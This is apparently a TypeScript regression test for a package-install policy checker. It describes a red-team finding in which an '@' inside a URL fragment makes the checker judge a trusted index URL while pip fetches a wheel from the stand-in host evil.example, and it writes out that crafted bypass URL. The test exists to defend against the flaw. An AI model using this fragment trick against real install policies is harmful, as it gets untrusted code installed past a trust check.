/**
 * Red team 48b R48b-6 (HIGH), static twin: src/deps/decide.ts:697 `refUrl` takes what follows
 * the FIRST `@` as the reference whenever the text holds `@ `, so a bare URL on an untrusted
 * place whose fragment holds `@ TRUSTED-URL` is decided on the trusted URL. pip fetches the URL
 * without its fragment (the kernel proof: tests/deps/test_redteam48b_url_at_fragment.py).
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { installOutcome } from '../testing/install-outcome';

const policy = {
  trusted_sources: {
    package_indexes: ['https://pypi.org/simple', 'https://pkgs.example/simple/']
  }
};
const wheel = 'x-1.0-py3-none-any.whl';

function outcome(url: string) {
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'rt48b-url-'));
  return installOutcome(
    {
      name: 'rt48b',
      policy,
      command: ['pip', 'install', url],
      expect: { rules: [], runs: false }
    },
    work
  );
}

describe('red team 48b: an @ in a bare URL fragment', () => {
  it('control: the untrusted URL is refused', () => {
    expect(outcome(`https://evil.example/files/${wheel}`).runs).toBe(false);
  });

  it('control: a URL under the trusted index runs', () => {
    expect(outcome(`https://pkgs.example/simple/x/${wheel}`)).toEqual({
      rules: [],
      runs: true
    });
  });

  it('R48b-6: the fragment does not choose the URL decided', () => {
    const url = `https://evil.example/files/${wheel}#egg=x@ https://pkgs.example/simple/x/${wheel}`;
    expect(outcome(url)).toEqual({
      rules: ['install-direct-reference'],
      runs: false
    });
  });
});
